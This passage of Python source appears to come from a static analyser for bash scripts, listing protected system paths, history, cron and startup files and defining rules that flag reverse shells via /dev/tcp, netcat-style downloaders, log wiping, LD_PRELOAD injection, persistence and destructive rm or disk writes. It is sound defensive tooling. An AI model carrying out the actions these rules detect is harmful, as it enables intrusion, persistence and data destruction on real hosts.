    "/usr/local/lib",
    "/etc/ssh",
    "/etc/pam.d",
    "/etc/systemd",
    "/etc/ssl",
    "/etc/default",
    "/etc/init.d",
    "/etc/sudoers.d",
    "/etc/cron.d",
    "/etc/kubernetes",
    "/root/.ssh",
    "/boot/grub",
    "/boot/efi",
    "/var/lib/postgresql",
    "/var/lib/mysql",
    "/var/lib/docker",
    "/var/lib/etcd",
    "/var/lib/kubelet",
    "/var/lib/containerd",
    "/var/lib/dpkg",
    "/var/lib/rpm",
    "/var/lib/apt",
    "/var/lib/redis",
    "/var/lib/mongodb",
    "/var/lib/elasticsearch",
    "/var/lib/rabbitmq",
    "/var/log/audit",
    "/var/log/journal",
    "/lib/modules",
    "/usr/lib/modules",
    "/lib/systemd",
}
DATA_DIR_PREFIXES = (
    "/var/lib/postgresql",
    "/var/lib/mysql",
    "/var/lib/pgsql",
    "/var/lib/mongodb",
    "/var/lib/etcd",
    "/var/lib/redis",
    "/var/lib/elasticsearch",
    "/var/lib/rabbitmq",
    "/var/lib/docker/volumes",
    "/srv/data",
    "/data",
)
BLOCK_DEVICE = re.compile(
    r"^/dev/(sd[a-z]+\d*|hd[a-z]+\d*|vd[a-z]+\d*|xvd[a-z]+\d*|nvme\d+n\d+(p\d+)?|mmcblk\d+(p\d+)?|dm-\d+|md\d+|"
    r"mapper/.+|disk/.+|loop\d+|sr\d+|root|rootfs|mem|kmem|port)$"
)
#: Writing here replaces programs every user runs (a backdoor or a broken host).
SYSTEM_BINARY_DIRS = (
    "/bin/",
    "/sbin/",
    "/usr/bin/",
    "/usr/sbin/",
    "/lib/",
    "/lib64/",
    "/usr/lib/",
    "/usr/lib64/",
    "/usr/libexec/",
)
HISTORY_FILES = (
    "~/.bash_history",
    "*/.bash_history",
    "~/.zsh_history",
    "*/.zsh_history",
    "/var/log/wtmp",
    "/var/log/btmp",
    "/var/log/lastlog",
    "/var/run/utmp",
    "/run/utmp",
    "/var/log/auth.log",
    "/var/log/secure",
    "/var/log/audit/audit.log",
    "/var/log/audit/*",
    "/var/log/messages",
    "/var/log/syslog",
    "*/.python_history",
    "*/.mysql_history",
    "*/.psql_history",
    "/var/log/faillog",
)
STARTUP_FILES = (
    "~/.bashrc",
    "*/.bashrc",
    "~/.bash_profile",
    "*/.bash_profile",
    "~/.profile",
    "*/.profile",
    "~/.zshrc",
    "*/.zshrc",
    "/etc/profile",
    "/etc/profile.d/*",
    "/etc/bash.bashrc",
    "/etc/bashrc",
    "/etc/environment",
    "~/.bash_logout",
    "*/.bash_logout",
    "/etc/zsh/*",
    "~/.ssh/rc",
    "/etc/rc.local",
)
CRON_PATHS = (
    "/etc/cron.d/*",
    "/etc/crontab",
    "/var/spool/cron/*",
    "/var/spool/cron/crontabs/*",
    "/etc/cron.daily/*",
    "/etc/cron.hourly/*",
    "/etc/cron.weekly/*",
    "/etc/cron.monthly/*",
    "/etc/anacrontab",
)
PERSISTENCE_UNITS = (
    "/etc/systemd/system/*",
    "/lib/systemd/system/*",
    "/usr/lib/systemd/system/*",
    "~/.config/systemd/user/*",
    "/etc/init.d/*",
    "/etc/rc.local",
    "/etc/update-motd.d/*",
)
ESSENTIAL_PACKAGES = {
    "openssh-server",
    "openssh",
    "sudo",
    "systemd",
    "libc6",
    "glibc",
    "coreutils",
    "bash",
    "util-linux",
    "login",
    "passwd",
    "dpkg",
    "rpm",
    "apt",
    "yum",
    "dnf",
    "python3",
    "kernel",
    "linux-image-generic",
    "grub",
    "grub2",
    "grub-pc",
    "init",
    "systemd-sysv",
    "libpam-modules",
    "pam",
    "openssl",
    "ca-certificates",
    "e2fsprogs",
    "procps",
    "iproute2",
    "network-manager",
}
SSH_UNITS = {"ssh", "sshd", "ssh.service", "sshd.service", "ssh.socket"}
AUDIT_UNITS = {
    "auditd",
    "rsyslog",
    "syslog",
    "syslog-ng",
    "systemd-journald",
    "journald",
    "auditd.service",
    "rsyslog.service",
    "systemd-journald.service",
    "osqueryd",
    "falco",
    "wazuh-agent",
    "ossec",
}
FIREWALL_UNITS = {"firewalld", "ufw", "nftables", "iptables", "ip6tables", "netfilter-persistent", "firewalld.service"}
MAC_UNITS = {"apparmor", "apparmor.service", "selinux"}
EPHEMERAL_NAMESPACE = re.compile(r"^(preview|pr|review|ephemeral|tmp|test|ci|sandbox|feature)-[a-z0-9-]+$")


class Sink(Protocol):
    """What the rules report into (implemented by the analysis in remediation.validation.bash)."""

    downloads: set[str]
    written_scripts: dict[str, str]
    context: ValidationContext

    def emit(self, rule_id: str, line: int, message: str, severity: Severity | None = None) -> None: ...

    def embedded(self, code: str, language: str, line: int, origin: str) -> None: ...

    def side_effect(self, text: str) -> None: ...


# ---------------------------------------------------------------------------------------------
# Path helpers


def normalise_path(text: str) -> str:
    """Collapse //, /./ and .. the way the kernel would resolve a literal path."""
    text = text.replace(SPLIT, " ")
    if text.startswith("~"):
        head, sep, rest = text.partition("/")
        home = "~" if head in ("~", "~root") or head.startswith("~") else head
        return home + (posixpath.normpath("/" + rest) if sep and rest else "")
    if not text.startswith("/"):
        return text
    normalised = posixpath.normpath(text)
    return "/" + normalised.lstrip("/")


def _split_glob_tail(path: str) -> tuple[str, bool]:
    """'/var/log/*' -> ('/var/log', True); '/etc/' -> ('/etc', False)."""
    globbed = False
    while True:
        if path.endswith("/*") or path.endswith("/.*"):
            path = path.rsplit("/", 1)[0] or "/"
            globbed = True
        elif path.endswith("/") and len(path) > 1:
            path = path[:-1]
        else:
            return path or "/", globbed


def destructive_scope(text: str) -> tuple[Severity, str] | None:
    """How bad it is to recursively destroy this path; None when the path is scoped."""
    if not text:
        return None
    path, _globbed = _split_glob_tail(normalise_path(text))
    if path in ("/", "//", "/*"):
        return C, "the root filesystem"
    if path.startswith("~"):
        rest = path.split("/", 1)[1] if "/" in path else ""
        if not rest or rest in ("*", ".*"):
            return C, "a home directory"
        if rest.split("/")[0] in (".ssh", ".gnupg", ".aws", ".kube") and rest.count("/") == 0:
            return H, f"{path} (credentials)"
        return None
    if not path.startswith("/"):
        return None
    parts = path.strip("/").split("/")
    first = parts[0]
    if any(ch in first for ch in "*?[") or first.startswith(UNKNOWN):
        return C, f"{path} (matches top-level directories)"
    if first == "home" and len(parts) == 2:
        return H, f"the home directory {path}"
    if len(parts) == 1:
        if first in TOP_LEVEL or first in ("swapfile",):
            return (
                (C, f"the system directory {path}")
                if first not in ("tmp", "mnt", "media", "srv", "opt")
                else (H, f"the shared directory {path}")
            )
        return H, f"the top-level path {path}"
    if path in PROTECTED_DIRS or path in CRITICAL_FILES:
        return H, f"the system path {path}"
    if (
        len(parts) == 2
        and any(ch in parts[1] for ch in "*?[")
        and "/" + first in {"/etc", "/usr", "/var", "/boot", "/lib", "/bin", "/sbin"}
    ):
        return H, f"{path} (matches system directories)"
    if len(parts) >= 2 and parts[0] in ("boot", "bin", "sbin", "lib", "lib64"):
        return H, f"the system path {path}"
    if first == "usr" and (
        len(parts) == 2
        or (len(parts) == 3 and parts[1] in ("bin", "sbin", "lib", "lib64", "lib32", "libexec", "include", "share"))
    ):
        return H, f"the system path {path}"
    for prefix in DATA_DIR_PREFIXES:
        if path == prefix or (path.startswith(prefix + "/") and path.count("/") <= prefix.count("/") + 2):
            return H, f"database or service data under {prefix}"
    return None


def matches_any(text: str, patterns: tuple[str, ...] | set[str]) -> bool:
    path = normalise_path(text)
    for pattern in patterns:
        if fnmatch.fnmatchcase(path, pattern):
            return True
        # a glob in the script (/dev/tc[p]/...) that can match the pattern's literal text
        if (
            any(ch in path for ch in "*?[")
            and "*" not in pattern
            and path.count("/") == pattern.count("/")
            and fnmatch.fnmatchcase(pattern, path)
        ):
            return True
    return False


def is_secret_path(text: str) -> bool:
    path = normalise_path(text)
    if path.endswith(".pub"):
        return False
    return matches_any(path, SECRET_PATTERNS)


def is_block_device(text: str) -> bool:
    path = normalise_path(text)
    if BLOCK_DEVICE.match(path):
        return True
    return (
        path.startswith("/dev/")
        and any(ch in path for ch in "*?[")
        and any(fnmatch.fnmatchcase(dev, path) for dev in ("/dev/sda", "/dev/nvme0n1", "/dev/vda", "/dev/xvda"))
    )


def is_dev_tcp(text: str) -> bool:
    path = normalise_path(text)
    if re.match(r"^/dev/(tcp|udp)/", path):
        return True
    head = "/".join(path.split("/")[:3])
    return any(ch in head for ch in "*?[") and (
        fnmatch.fnmatchcase("/dev/tcp", head) or fnmatch.fnmatchcase("/dev/udp", head)
    )


def _is_decoder(cmd: Command) -> bool:
    if cmd.name in ("base64", "base32"):
        return cmd.has_flag("-d", "--decode", "-D")
    if cmd.name == "xxd":
        return cmd.has_flag("-r")
    if cmd.name == "openssl":
        return any(a in ("enc", "base64", "-d", "-base64") for a in cmd.argv)
    if cmd.name in ("gzip", "bzip2", "xz", "zstd"):
        return cmd.has_flag("-d", "--decompress")
    if cmd.name in ("printf", "echo"):
        return any(re.search(r"\\(x[0-9a-fA-F]|[0-7]{2,3}|u[0-9a-fA-F])", a.raw) for a in cmd.args)
    return cmd.name in ("gunzip", "zcat", "bzcat", "xzcat", "uudecode", "rev", "tr", "unzstd", "lzcat")


def _written_text(cmd: Command) -> str | None:
    """The text a command prints when it is statically known (cat/tee of a heredoc, echo, printf)."""
    if cmd.name in ("cat", "tee") and not [a for a in cmd.args if not a.text.startswith("-")] and cmd.stdin_text:
        return cmd.stdin_text
    if cmd.name in ("echo", "printf") and cmd.args and not any(a.dynamic for a in cmd.args):
        text = _pure_stage(cmd.name, [a.text.replace(SPLIT, " ") for a in cmd.args], None)
        return None if text is None else text + "\n"
    return None


def _is_downloader(cmd: Command) -> bool:
    if cmd.name in DOWNLOADERS:
        return True
    if cmd.name in ("nc", "ncat", "netcat", "socat", "telnet"):
        return True
    return cmd.name == "openssl" and "s_client" in cmd.argv


def _shell_kind(name: str) -> str | None:
    if name in SHELLS:
        return "bash"
    if PYTHONS.match(name):
        return "python"
    if name in OTHER_INTERPRETERS:
        return name
    return None


# ---------------------------------------------------------------------------------------------
# The checks


class CommandRules:
    """Applies every rule to one command; stateless apart from the sink it reports into."""

    def __init__(self, sink: Sink) -> None:
        self.sink = sink
        #: unit -> line of a stop not (yet) followed by a start
        self.stopped: dict[str, int] = {}
        #: access-scope rules, only built when the service sets an allow-list (free otherwise)
        self.scope: ScopeRules | None = None
        context = getattr(sink, "context", None)
        if isinstance(context, ValidationContext) and scope_lists_set(context):
            self.scope = ScopeRules(sink, context, cwd=self._working_directory, env_lookup=self._exported)

    def _working_directory(self) -> str | None:
        """Where a literal ``cd`` moved the script (run-time parts kept as markers), else None."""
        walker = getattr(self.sink, "walker", None)
        value = walker.words.env.get("PWD") if walker is not None else None
        return value.text if value is not None and value.text.startswith("/") else None

    def _exported(self, name: str) -> Word | None:
        walker = getattr(self.sink, "walker", None)
        value = walker.words.env.get(name) if walker is not None else None
        if value is None:
            return None
        return Word(text=value.text, raw=f"${name}", line=0, dynamic=value.dynamic)

    def emit(self, rule_id: str, line: int, message: str, severity: Severity | None = None) -> None:
        self.sink.emit(rule_id, line, message, severity)

    # -- entry points -------------------------------------------------------------------------
    def check(self, cmd: Command) -> None:
        self._name(cmd)
        if any(a.brace_overflow for a in cmd.args):
            self.emit(
                "bash.brace_explosion", cmd.line, f"brace expansion in '{cmd.name}' arguments yields too many words"
            )
        for redirect in cmd.redirects:
            self._redirect(cmd, redirect)
        if self.scope is not None:
            self.scope.check(cmd)
        if cmd.name == ":" and not cmd.args and not cmd.wrappers:
            return
        for wrapper in cmd.wrappers:
            if wrapper in DEFERRING_WRAPPERS:
                self.emit("bash.deferred_execution", cmd.line, f"{wrapper} defers '{cmd.name}' past the script")
        handler = getattr(self, "_cmd_" + re.sub(r"[^a-zA-Z0-9_]", "_", cmd.name), None)
        if handler is not None:
            handler(cmd)
        if cmd.name.startswith("mkfs") or cmd.name in ("mke2fs", "mkswap", "mkdosfs", "mkntfs"):
            self._mkfs(cmd)
        kind = _shell_kind(cmd.name)
        if kind is not None:
            self._interpreter(cmd, kind)
        self._secrets(cmd)
        self._side_effects(cmd)

    def check_assignment(self, name: str, value: Word | None, line: int, exported: bool) -> None:
        text = value.text.replace(SPLIT, " ") if value is not None else ""
        if name in ("HISTFILE",) and (value is None or text in ("", "/dev/null")):
            self.emit("bash.history_tamper", line, f"{name} cleared: shell history is no longer written")
        if name in ("HISTSIZE", "HISTFILESIZE", "SAVEHIST") and text.strip() in ("0", ""):
            self.emit("bash.history_tamper", line, f"{name}={text or 'empty'} disables shell history")
        if name == "HISTCONTROL" and "ignorespace" in text:
            self.emit("bash.history_tamper", line, "HISTCONTROL hides commands from history", L)
        if value is None or text == "" or (value.raw == "unset"):
            return
        if name in (
            "LD_PRELOAD",
            "LD_AUDIT",
            "BASH_ENV",
            "ENV",
            "PROMPT_COMMAND",
            "PS4",
            "GIT_SSH_COMMAND",
            "LD_LIBRARY_PATH",
            "PERL5OPT",
            "PYTHONSTARTUP",
            "NODE_OPTIONS",
            "GCONV_PATH",
        ):
            if name == "LD_LIBRARY_PATH" and not re.search(r"(^|:)(/tmp|/dev/shm|/var/tmp|\.)", text):
                return
            if name == "PS4" and "$(" not in (value.raw or ""):
                return
            self.emit("bash.env_injection", line, f"{name}={text[:60]} makes later programs load or run that code")
        if name == "PATH":
            first = text.split(":")[0]
            if first in ("", ".") or first.startswith(("/tmp", "/dev/shm", "/var/tmp", UNKNOWN)) or "/home/" in first:
                self.emit(
                    "bash.env_injection",
                    line,
                    f"PATH puts {first or 'the current directory'} first: commands can resolve to planted binaries",
                )

    # -- helpers ------------------------------------------------------------------------------
    def _name(self, cmd: Command) -> None:
        word = cmd.name_word
        raw_name = word.text
        if word.dynamic or UNKNOWN in raw_name:
            severity = C if set(word.subst_commands) & (DOWNLOADERS | DECODERS) else H
            self.emit(
                "bash.dynamic_command", cmd.line, f"command name '{word.raw[:60]}' is only known at run time", severity
            )
            return
        if word.glob and any(ch in raw_name for ch in "*?["):
            self.emit("bash.dynamic_command", cmd.line, f"command name '{word.raw[:60]}' is a glob pattern")
            return
        if any(ord(ch) > 127 for ch in raw_name):
            self.emit(
                "bash.non_ascii_command",
                cmd.line,
                f"command name {raw_name.encode('unicode_escape').decode()[:60]} contains non-ASCII characters",
            )
        if word.obfuscated and raw_name:
            self.emit(
                "bash.obfuscated_command",
                cmd.line,
                f"command '{word.raw[:60]}' resolves to '{cmd.name}' after quote/escape/decoding tricks",
                H if cmd.name in _DANGEROUS_NAMES else None,
            )
        path = normalise_path(raw_name)
        if "/" in path:
            if path in self.sink.downloads:
                self.emit("bash.pipe_to_shell", cmd.line, f"runs {path}, which the script downloaded or decoded")
            elif path.startswith(("/tmp/", "/dev/shm/", "/var/tmp/")) and path not in self.sink.written_scripts:
                self.emit("bash.exec_from_tmp", cmd.line, f"runs {path} from a world-writable directory")
            if path in self.sink.written_scripts:
                self.sink.embedded(self.sink.written_scripts[path], "bash", cmd.line, f"script {path}")

    def _redirect(self, cmd: Command, redirect: Redirect) -> None:
        target = redirect.target
        if target is None:
            return
        text = normalise_path(target.text)
        writes = redirect.op in (">", ">>", "&>", "&>>", ">|", "<>", ">&")
        if is_dev_tcp(text):
            self.emit("bash.reverse_shell", redirect.line, f"redirect to {text}: opens a network socket from the shell")
            return
        if not writes:
            if redirect.op == "<" and is_secret_path(text):
                self.emit("bash.secret_read", redirect.line, f"reads {text}")
            return
        if redirect.op == ">&" and text.isdigit():
            return
        if is_block_device(text):
            self.emit("bash.block_device_write", redirect.line, f"redirect writes the block device {text}")
        elif text in CRITICAL_FILES or text.startswith("/boot/") or text.startswith(SYSTEM_BINARY_DIRS):
            self.emit("bash.overwrite_critical_file", redirect.line, f"redirect overwrites {text}")
        elif text == "/proc/sysrq-trigger":
            self.emit("bash.power_state", redirect.line, "writes /proc/sysrq-trigger (immediate reboot/crash)")
        elif text.startswith("/proc/sys/kernel/") and any(
            k in text for k in ("randomize_va_space", "modules_disabled", "kptr_restrict", "yama")
        ):
            self.emit("bash.kernel_security", redirect.line, f"writes {text}")
        self._sensitive_write(
            text,
            redirect.line,
            "redirect",
            append=redirect.op in (">>", "&>>"),
            truncate_only=(cmd.name == ":" and not cmd.args)
            or (cmd.name in ("echo", "true", ":", "printf") and not [a for a in cmd.args if a.text.strip()]),
        )
        written = _written_text(cmd)
        if written is not None:
            # remembered so that running or sourcing the file later is checked as bash
            previous = self.sink.written_scripts.get(text, "") if redirect.op == ">>" else ""
            self.sink.written_scripts[text] = previous + written
        if _is_downloader(cmd) or _is_decoder(cmd) or any(_is_downloader(u) or _is_decoder(u) for u in cmd.upstream):
            # a file holding downloaded or decoded text: running it later is running unreviewed code
            self.sink.downloads.add(text)
        endless = any(a.text in ("/dev/urandom", "/dev/zero", "/dev/random") for a in cmd.args)
        if cmd.name in ("cat", "head") and endless and not cmd.has_flag("-c", "-n"):
            self.emit("bash.fork_bomb", redirect.line, f"copies an endless device into {text} until the disk fills")
        if cmd.name == "yes" and text == "/dev/null":
            self.emit("bash.fork_bomb", redirect.line, "yes > /dev/null burns a CPU forever", H)

    def _system_binary_write(self, cmd: Command) -> None:
        for target in self._targets_for_write(cmd):
            path = normalise_path(target.text)
            if path.startswith(SYSTEM_BINARY_DIRS) or path in {d.rstrip("/") for d in SYSTEM_BINARY_DIRS}:
                self.emit(
                    "bash.overwrite_critical_file",
                    cmd.line,
                    f"{cmd.name} replaces system binaries or libraries in {path}",
                    H,
                )

    def _sensitive_write(
        self, path: str, line: int, how: str, *, append: bool = False, truncate_only: bool = False
    ) -> None:
        if path == "/etc/sudoers" or path.startswith("/etc/sudoers.d/") or path == "/etc/sudoers.d":
            self.emit("bash.sudoers", line, f"{how} writes {path}")
        elif fnmatch.fnmatchcase(path, "*/.ssh/authorized_keys*") or path.startswith("~/.ssh/authorized_keys"):
            self.emit("bash.ssh_keys", line, f"{how} writes {path}")
        elif path == "/etc/ld.so.preload":
            self.emit("bash.env_injection", line, f"{how} writes /etc/ld.so.preload (every process loads it)")
        elif matches_any(path, STARTUP_FILES):
            self.emit("bash.startup_file", line, f"{how} writes the shell startup file {path}")
        elif path in ("/etc/resolv.conf", "/etc/hosts"):
            self.emit("bash.dns_hijack", line, f"{how} rewrites {path}")
        elif matches_any(path, CRON_PATHS):
            self.emit("bash.cron", line, f"{how} writes the cron file {path}")
        elif matches_any(path, PERSISTENCE_UNITS):
            self.emit("bash.cron", line, f"{how} installs a boot-time unit {path}", M)
        elif matches_any(path, HISTORY_FILES) and (truncate_only or how != "redirect" or not append):
            self.emit("bash.history_tamper", line, f"{how} wipes {path}")
        elif path in ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow"):
            self.emit("bash.account_change", line, f"{how} edits {path}")
        elif path == "/etc/selinux/config":
            self.emit("bash.mac_disable", line, f"{how} edits /etc/selinux/config")

    def _targets_for_write(self, cmd: Command) -> list[Word]:
        if cmd.name in ("cp", "mv", "install", "ln", "rsync"):
            ops = cmd.operands()
            if cmd.has_flag("-t", "--target-directory"):
                return ops
            return ops[-1:] if len(ops) >= 2 else []
        if cmd.name == "tee":
            return cmd.operands()
        if cmd.name in ("sed", "perl") and cmd.has_flag("-i", "--in-place"):
            ops = cmd.operands()
            return ops[1:] if cmd.name == "sed" and not cmd.has_flag("-e", "-f") else ops
        if cmd.name == "dd":
            return [Word(text=a.text[3:], raw=a.raw, line=a.line) for a in cmd.args if a.text.startswith("of=")]
        if cmd.name in ("truncate", "shred", "chattr"):
            return cmd.operands()
        return []

    # -- per-command handlers -----------------------------------------------------------------
    def _cmd_rm(self, cmd: Command) -> None:
        recursive = cmd.has_flag("-r", "-R", "--recursive")
        targets = cmd.operands()
        if cmd.has_flag("--no-preserve-root"):
            self.emit("bash.rm_root", cmd.line, "rm --no-preserve-root disables the guard against deleting /")
        if cmd.from_xargs and not targets and recursive:
            self._xargs_scope(cmd)
        for target in targets:
            text = target.text
            if matches_any(text, HISTORY_FILES):
                self.emit("bash.history_tamper", cmd.line, f"rm deletes {normalise_path(text)}")
            if target.maybe_empty_prefix and text.lstrip(UNKNOWN).startswith("/"):
                var = target.names[0] if target.names else "?"
                self.emit(
                    "bash.rm_unguarded_var",
                    cmd.line,
                    f"rm {'-r ' if recursive else ''}'{target.raw[:60]}': if ${var} is empty this deletes "
                    f"{normalise_path(text.replace(UNKNOWN, '')) or '/'}",
                    C if recursive and destructive_scope(text.replace(UNKNOWN, "")) else H,
                )
                continue
            scope = destructive_scope(text)
            if recursive and scope is not None:
                severity, what = scope
                self.emit(
                    "bash.rm_root" if severity is C else "bash.rm_system_path",
                    cmd.line,
                    f"rm -r deletes {what} ('{target.raw[:60]}')",
                    severity,
                )
                continue
            path = normalise_path(text)
            if not recursive and (
                path in CRITICAL_FILES
                or path.startswith(("/boot/", "/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/lib/", "/usr/lib/"))
            ):
                self.emit(
                    "bash.rm_system_path",
                    cmd.line,
                    f"rm deletes the system file {path}",
                    C if path in CRITICAL_FILES else H,
                )
                continue
            if not recursive and scope is not None and scope[0] is C and target.glob:
                self.emit("bash.rm_system_path", cmd.line, f"rm deletes files in {scope[1]}", H)
                continue
            if (recursive and path in ("*", ".", "..", ".*", "./*", "../*", "./", "../")) or (
                recursive and path.startswith("..") and target.glob
            ):
                self.emit(
                    "bash.rm_relative_glob",
                    cmd.line,
                    f"rm -r '{target.raw[:40]}' deletes whatever the current directory holds",
                )
                continue
            if recursive and target.dynamic and not target.guarded and text.strip(UNKNOWN + "/") == "":
                external = [n for n in target.names if n and not n.isdigit() and n not in ("@", "*")]
                if target.from_subst or target.maybe_empty_prefix or external:
                    self.emit(
                        "bash.rm_unresolved_target",
                        cmd.line,
                        f"rm -r of '{target.raw[:60]}', a path the script does not set",
                    )

    def _xargs_scope(self, cmd: Command) -> None:
        for up in cmd.upstream:
            if up.name == "find":
                roots = [a for a in up.args if not a.text.startswith("-")][:1]
                scope = destructive_scope(roots[0].text) if roots else None
                if scope is not None:
                    self.emit("bash.find_delete_root", cmd.line, f"find {scope[1]} | xargs rm -r", scope[0])
                    return
        if not cmd.upstream:
            self.emit("bash.rm_unresolved_target", cmd.line, "xargs rm -r deletes whatever arrives on stdin")

    def _cmd_unlink(self, cmd: Command) -> None:
        self._cmd_rm(cmd)

    def _cmd_rmdir(self, cmd: Command) -> None:
        return

    def _cmd_find(self, cmd: Command) -> None:
        argv = cmd.argv
        roots = []
        for arg in cmd.args:
            if arg.text.startswith(("-", "(", "!")) or arg.text in ("(", "!"):
                break
            roots.append(arg)
        deletes = "-delete" in argv
        exec_cmds: list[list[Word]] = []
        i = 0
        while i < len(cmd.args):
            if cmd.args[i].text in ("-exec", "-execdir", "-ok", "-okdir"):
                j = i + 1
                inner: list[Word] = []
                while j < len(cmd.args) and cmd.args[j].text not in (";", "+", "\\;"):
                    inner.append(cmd.args[j])
                    j += 1
                exec_cmds.append(inner)
                i = j
            i += 1
        for inner in exec_cmds:
            if not inner:
                continue
            name = normalise_name(inner[0].text)
            if name in ("rm", "shred", "unlink", "truncate") or (
                name == "mv" and "/dev/null" in [w.text for w in inner]
            ):
                deletes = True
            self.check(
                Command(
                    name=name,
                    args=[w for w in inner[1:] if w.text != "{}"],
                    line=cmd.line,
                    name_word=inner[0],
                    context="find -exec",
                )
            )
        if not deletes:
            return
        root_texts = [r.text for r in roots] or ["."]
        predicates = {
            "-name",
            "-iname",
            "-mtime",
            "-mmin",
            "-newer",
            "-size",
            "-path",
            "-regex",
            "-user",
            "-empty",
            "-atime",
            "-ctime",
            "-type",
        }
        bounded = any(a in predicates and a != "-type" for a in argv)
        for text in root_texts:
            scope = destructive_scope(text)
            if scope is None:
                if UNKNOWN in text and not bounded:
                    self.emit("bash.rm_unresolved_target", cmd.line, f"find {text} deletes under an unresolved path")
                continue
            severity, what = scope
            if severity is H and bounded and normalise_path(text) not in ("/var/lib", "/usr", "/boot", "/etc"):
                continue
            self.emit(
                "bash.find_delete_root",
                cmd.line,
                f"find deletes files under {what}",
                C if severity is C or not bounded else H,
            )

    def _chmod_like(self, cmd: Command, verb: str) -> None:
        recursive = cmd.has_flag("-R", "--recursive")
        ops = cmd.operands()
        mode = ops[0].text if ops else ""
        paths = ops[1:]
        if verb == "chmod" and (re.fullmatch(r"0?[2-7][0-7]{3}", mode) or re.search(r"[ugoa]*\+[rwxXt]*s", mode)):
            self.emit(
                "bash.setuid",
                cmd.line,
                f"chmod {mode} sets setuid/setgid on {', '.join(p.text for p in paths)[:80]}",
            )
        world_writable = verb == "chmod" and (
            re.fullmatch(r"0?[0-7]?[0-7][0-7][2367]", mode) is not None
            or re.search(r"(o|a|^)\+[rx]*w", mode) is not None
        )
        for p in paths:
            scope = destructive_scope(p.text)
            path = normalise_path(p.text)
            if recursive and scope is not None:
                self.emit("bash.chmod_chown_root", cmd.line, f"{verb} -R on {scope[1]}", scope[0])
            elif world_writable and (
                path in CRITICAL_FILES or scope is not None or path.startswith(("/etc/", "/usr/", "/bin/", "/boot/"))
            ):
                self.emit("bash.chmod_chown_root", cmd.line, f"chmod {mode} makes {path} world-writable", H)
            elif p.maybe_empty_prefix and recursive:
                self.emit(
                    "bash.rm_unguarded_var", cmd.line, f"{verb} -R '{p.raw}' can expand to / if the variable is empty"
                )

    def _cmd_chmod(self, cmd: Command) -> None:
        self._chmod_like(cmd, "chmod")

    def _cmd_chown(self, cmd: Command) -> None:
        self._chmod_like(cmd, "chown")

    def _cmd_chgrp(self, cmd: Command) -> None:
        self._chmod_like(cmd, "chgrp")

    def _cmd_setcap(self, cmd: Command) -> None:
        caps = " ".join(cmd.argv).lower()
        if any(
            c in caps
            for c in ("cap_setuid", "cap_setgid", "cap_sys_admin", "cap_dac_override", "cap_sys_ptrace", "=ep")
        ):
            self.emit("bash.setuid", cmd.line, f"setcap {caps[:60]} grants root-equivalent capabilities")

    def _cmd_dd(self, cmd: Command) -> None:
        for arg in cmd.args:
            if arg.text.startswith("of=") and is_block_device(arg.text[3:]):
                self.emit("bash.block_device_write", cmd.line, f"dd writes the block device {arg.text[3:]}")
            if arg.text.startswith("of=") and normalise_path(arg.text[3:]) in CRITICAL_FILES:
                self.emit("bash.overwrite_critical_file", cmd.line, f"dd overwrites {arg.text[3:]}")

    def _mkfs(self, cmd: Command) -> None:
        devices = [o.text for o in cmd.operands() if o.text.startswith("/dev/") or o.dynamic]
        if devices:
            self.emit("bash.block_device_write", cmd.line, f"{cmd.name} formats {devices[0]}")

    def _device_tool(self, cmd: Command, read_only_flags: tuple[str, ...] = ()) -> None:
        if read_only_flags and (cmd.has_flag(*read_only_flags) or cmd.argv[-1:] in (["print"], ["p"])):
            return
        devices = [a.text for a in cmd.args if a.text.startswith("/dev/") or a.dynamic]
        if devices or not cmd.args:
            self.emit(
                "bash.block_device_write",
                cmd.line,
                f"{cmd.name} rewrites the partition table or data of {devices[0] if devices else 'a disk'}",
            )

    def _cmd_wipefs(self, cmd: Command) -> None:
        if not cmd.has_flag("-n", "--no-act") and (cmd.has_flag("-a", "--all", "-o", "--offset")):
            self._device_tool(cmd)

    def _cmd_fdisk(self, cmd: Command) -> None:
        self._device_tool(cmd, ("-l", "--list"))

    _cmd_sfdisk = _cmd_fdisk
    _cmd_gdisk = _cmd_fdisk
    _cmd_cfdisk = _cmd_fdisk

    def _cmd_sgdisk(self, cmd: Command) -> None:
        if cmd.has_flag("-Z", "-o", "-d", "-n", "--zap-all", "--clear", "--delete", "--new"):
            self._device_tool(cmd)

    def _cmd_parted(self, cmd: Command) -> None:
        if any(a in ("rm", "mklabel", "mkpart", "resizepart", "mktable", "mkfs", "rescue") for a in cmd.argv):
            self._device_tool(cmd)

    def _cmd_blkdiscard(self, cmd: Command) -> None:
        self._device_tool(cmd)

    def _cmd_hdparm(self, cmd: Command) -> None:
        if any("security-erase" in a or "trim-sector" in a for a in cmd.argv):
            self._device_tool(cmd)

    def _cmd_shred(self, cmd: Command) -> None:
        for target in cmd.operands():
            if is_block_device(target.text):
                self.emit("bash.block_device_write", cmd.line, f"shred overwrites the block device {target.text}")
            elif matches_any(target.text, HISTORY_FILES):
                self.emit("bash.history_tamper", cmd.line, f"shred destroys {target.text}")
            else:
                self.emit("bash.data_destruction", cmd.line, f"shred irreversibly destroys {target.text}")

    def _cmd_truncate(self, cmd: Command) -> None:
        for target in cmd.operands():
            path = normalise_path(target.text)
            if path.startswith(DATA_DIR_PREFIXES) or path in CRITICAL_FILES or path.startswith(("/etc/", "/boot/")):
                self.emit("bash.data_destruction", cmd.line, f"truncate empties {path}")
            elif matches_any(path, HISTORY_FILES):
                self.emit("bash.history_tamper", cmd.line, f"truncate wipes {path}")

    def _cmd_fallocate(self, cmd: Command) -> None:
        for i, arg in enumerate(cmd.args):
            if arg.text in ("-l", "--length") and i + 1 < len(cmd.args):
                size = cmd.args[i + 1].text.upper()
                if re.fullmatch(r"\d+(\.\d+)?[TP]B?|\d{4,}G(B)?", size):
                    self.emit("bash.fork_bomb", cmd.line, f"fallocate -l {size} fills the disk", H)

    def _cmd_mv(self, cmd: Command) -> None:
        ops = cmd.operands()
        if len(ops) < 2:
            return
        dest = normalise_path(ops[-1].text)
        for src in ops[:-1]:
            scope = destructive_scope(src.text)
            if scope is not None and scope[0] is C:
                self.emit("bash.data_destruction", cmd.line, f"mv moves {scope[1]} away", C)
            elif normalise_path(src.text) in CRITICAL_FILES:
                self.emit("bash.data_destruction", cmd.line, f"mv moves {normalise_path(src.text)} away", H)
        if dest == "/dev/null":
            self.emit("bash.data_destruction", cmd.line, "mv to /dev/null destroys the file (and breaks /dev/null)")
        if dest in CRITICAL_FILES:
            self.emit("bash.overwrite_critical_file", cmd.line, f"mv replaces {dest}")
        self._writes(cmd)

    def _cmd_cp(self, cmd: Command) -> None:
        ops = cmd.operands()
